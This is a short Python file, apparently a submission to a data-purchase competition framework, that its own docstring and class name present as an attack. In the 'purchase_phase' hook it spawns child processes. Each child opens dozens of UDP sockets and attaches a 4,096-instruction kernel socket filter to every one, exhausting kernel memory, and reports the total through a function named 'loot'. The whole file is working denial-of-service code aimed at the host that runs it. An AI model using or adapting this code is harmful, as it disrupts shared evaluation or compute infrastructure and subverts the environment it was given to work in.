"""Attaches a program of 4,096 instructions to every one of hundreds of sockets, and would to every one of thousands."""

import ctypes
import socket
import struct
import time

from aim import MIB, children_do, loot

from run import ZEWDPCBaseRun

ATTACH, SIZE = 26, 4096


def attach(number):
    code = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0xFFFF) * SIZE)
    head = struct.pack("HxxxxxxP", SIZE, ctypes.addressof(code))
    held = []
    for _ in range(60):
        held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        held[-1].setsockopt(socket.SOL_SOCKET, ATTACH, head)
    loot(f"{len(held) * SIZE * 8 // MIB} MiB of programs in process {number}")
    time.sleep(5)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        children_do(attach, 8)
        time.sleep(5)
